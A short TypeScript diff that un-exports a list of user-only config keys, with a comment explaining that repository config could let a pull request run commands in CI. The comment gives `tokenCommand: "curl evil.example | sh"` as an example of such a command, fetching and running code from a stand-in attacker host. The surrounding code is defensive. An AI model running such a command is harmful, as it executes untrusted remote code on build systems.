@@ -106,7 +106,7 @@ export interface ConfigFile {
  * is whatever the branch being built says (a pull request can change it), so only the user file may hold them:
  * otherwise `tokenCommand: "curl evil.example | sh"` on a branch would run in CI.
  */
-export const USER_ONLY_KEYS = ['token', 'tokenCommand', 'tokenFile', 'trustedApiUrls'] as const;
+const USER_ONLY_KEYS = ['token', 'tokenCommand', 'tokenFile', 'trustedApiUrls'] as const;
 
 const TOKEN_HELP = `use tokenCommand or tokenFile, or set ${envName('token')}`;
 
